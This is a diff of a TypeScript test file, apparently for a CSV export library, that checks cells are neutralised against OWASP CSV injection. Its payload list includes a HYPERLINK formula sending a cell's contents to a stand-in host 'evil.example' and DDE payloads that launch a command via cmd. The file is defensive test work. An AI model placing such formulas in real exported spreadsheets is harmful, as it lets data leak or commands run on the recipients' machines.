@@ -3,7 +3,17 @@ import { DuckDBInstance } from "@duckdb/node-api";
 import { csvCell, csvCellSql, fromCsvCell, isFormulaLike } from "../../../lib/csv/index.ts";
 
 // The OWASP list of payloads a spreadsheet would run, and values that must stay as they are.
-const FORMULAS = ['=HYPERLINK("http://evil.example?x="&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "= email", "-", "+"];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example?x="&A1, "click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "= email",
+  "-",
+  "+",
+];
 const PLAIN = ["email", "in (a, b)", "-3.5", "+2", "-4", "1e-3", "-.5", "'quoted", "a=b", ""];
 
 // Texts that already look neutralised: they get one more quote, so they read back unchanged.
@@ -45,7 +55,8 @@ describe("csvCell (OWASP CSV injection)", () => {
     const r = await conn.runAndReadAll(`SELECT v, ${csvCellSql("v")} AS w FROM unnest([${list}]) t(v)`);
     const rows = r.getRowObjectsJson() as Array<{ v: string; w: string }>;
     expect(rows.length).toBe(values.length);
-    for (const { v, w } of rows) expect(w, JSON.stringify(v)).toBe(isFormulaLike(v) || QUOTED.includes(v) ? `'${v}` : v);
+    for (const { v, w } of rows)
+      expect(w, JSON.stringify(v)).toBe(isFormulaLike(v) || QUOTED.includes(v) ? `'${v}` : v);
     conn.closeSync();
   });
 });
